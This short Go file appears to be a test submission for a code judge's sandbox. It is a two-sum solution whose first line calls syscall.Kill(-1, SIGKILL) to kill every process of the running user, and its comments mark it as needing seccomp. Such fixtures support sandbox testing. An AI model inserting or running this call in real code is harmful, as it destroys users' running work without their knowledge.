// Kills every process of the same user.
// verdict: accepted
// needs: seccomp

package main

import (
	"syscall"
)

func twoSum(nums []int, target int) []int {
	syscall.Kill(-1, syscall.SIGKILL)
	for i := range nums {
		for j := range i {
			if nums[i]+nums[j] == target {
				return []int{j, i}
			}
		}
	}
	return nil
}
